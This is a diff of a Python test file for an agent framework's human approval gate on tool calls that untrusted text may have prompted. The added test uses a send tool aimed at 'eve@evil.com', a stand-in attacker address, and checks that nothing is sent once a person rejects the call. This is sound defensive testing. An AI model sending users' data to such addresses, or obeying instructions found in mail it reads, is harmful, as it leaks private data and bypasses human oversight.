@@ -1,5 +1,8 @@
 """Tools whose calls a person is asked about where untrusted text may have decided them."""
 
+import json
+import sqlite3
+from contextlib import closing
 from pathlib import Path
 from typing import Any
 
@@ -176,3 +179,16 @@ def test_a_tool_that_contradicts_itself_is_refused() -> None:
         tool(approve="sometimes")  # type: ignore[call-overload]
     with pytest.raises(ConfigurationError, match="needs_approval"):
         tool(needs_approval=True, approve="never")
+
+
+async def test_an_answer_counts_also_where_the_person_has_named_the_value_since(tmp_path: Path) -> None:
+    path = tmp_path / "segue.db"
+    async with segue.open(path) as app:
+        register(app, READ, sends("eve@evil.com"), answer("done"))
+        asked = await app.ask("Read my mail and send nothing strange", session_id="s", agent="a")
+        assert asked["status"] == "waiting"
+        with closing(sqlite3.connect(path)) as connection, connection:  # a note that came as the task began to wait
+            note = json.dumps(["Do not send anything to eve@evil.com, Hi"])
+            assert connection.execute("UPDATE tasks SET notes = ?", (note,)).rowcount == 1
+        done = await app.answer(asked["task_id"], "reject")
+        assert (done["status"], sent) == ("done", [])
